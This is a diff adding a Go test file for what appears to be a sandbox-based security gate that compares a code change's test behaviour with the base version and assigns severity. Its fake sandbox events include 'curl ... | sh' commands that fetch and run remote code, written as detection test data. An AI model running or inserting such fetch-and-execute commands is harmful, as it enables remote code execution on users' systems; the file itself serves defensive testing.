@@ -1,0 +1,60 @@
+package execute_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/aigate/gate/gate"
+	"github.com/aigate/gate/gate/execute"
+	"github.com/aigate/gate/sandbox"
+)
+
+func TestWhatTestsDoOnTheBaseAsWellIsANote(t *testing.T) {
+	pipe := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.com/x | sh"}, Count: 1}
+	other := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.net/y | sh"}, Count: 1}
+	late := sandbox.Capture{Path: "/tmp/late.py", Data: []byte("print('late')")}
+	more := sandbox.Capture{Path: "/tmp/more.py", Data: []byte("print('more')")}
+	tests := "def test(): pass\n"
+	behaves := func(captures []sandbox.Capture, events ...sandbox.Event) sandbox.Behaviour {
+		return sandbox.Behaviour{Recorder: "fake", Events: events, Captures: captures}
+	}
+	for name, tt := range map[string]struct {
+		base       map[string]string
+		head, then sandbox.Behaviour // of the tests
+		worst      gate.Severity
+		children   int
+	}{
+		"the same":                  {map[string]string{"a.py": "print(0)\n", "test_a.py": tests}, behaves([]sandbox.Capture{late}, pipe), behaves([]sandbox.Capture{late}, pipe), gate.SeverityNote, 0},
+		"something else as well":    {map[string]string{"a.py": "print(0)\n", "test_a.py": tests}, behaves([]sandbox.Capture{late, more}, pipe, other), behaves([]sandbox.Capture{late}, pipe), gate.SeverityDangerous, 1},
+		"the base does less":        {map[string]string{"a.py": "print(0)\n", "test_a.py": tests}, behaves([]sandbox.Capture{late}, pipe), behaves(nil), gate.SeverityDangerous, 1},
+		"the base has no such test": {map[string]string{"a.py": "print(0)\n"}, behaves([]sandbox.Capture{late}, pipe), behaves([]sandbox.Capture{late}, pipe), gate.SeverityDangerous, 1},
+		"there is no base":          {nil, behaves([]sandbox.Capture{late}, pipe), behaves([]sandbox.Capture{late}, pipe), gate.SeverityDangerous, 1},
+	} {
+		t.Run(name, func(t *testing.T) {
+			r := &fakeRunner{}
+			r.answer = func(spec sandbox.Spec) (sandbox.Result, error) {
+				res := sandbox.Result{Status: sandbox.Exited, Behaviour: behaves(nil)}
+				input, err := unpack(spec)
+				if strings.Contains(strings.Join(spec.Argv, " "), "test_a.py") {
+					res.Behaviour = tt.head
+					if input["a.py"] == tt.base["a.py"] {
+						res.Behaviour = tt.then
+					}
+				}
+				return res, err
+			}
+			s := fakeStage(t, r, func(o *execute.Options) { o.Policy.Conditions = 0 })
+			change := changeOf(files(map[string]string{"a.py": program, "test_a.py": tests}), "a.py")
+			if tt.base != nil {
+				change.Base = files(tt.base)
+			}
+			out, found := executions(t, s, change)
+			if got := found.Worst("a.py"); got != tt.worst || len(out.Children) != tt.children {
+				t.Errorf("%v with %d pieces of code, want %v with %d: %+v", got, len(out.Children), tt.worst, tt.children, found.Of("a.py"))
+			}
+			if tt.worst == gate.SeverityNote && !strings.HasSuffix(found.Of("a.py")[0].Evidence, "on the base they do the same") {
+				t.Errorf("%+v", found.Of("a.py"))
+			}
+		})
+	}
+}
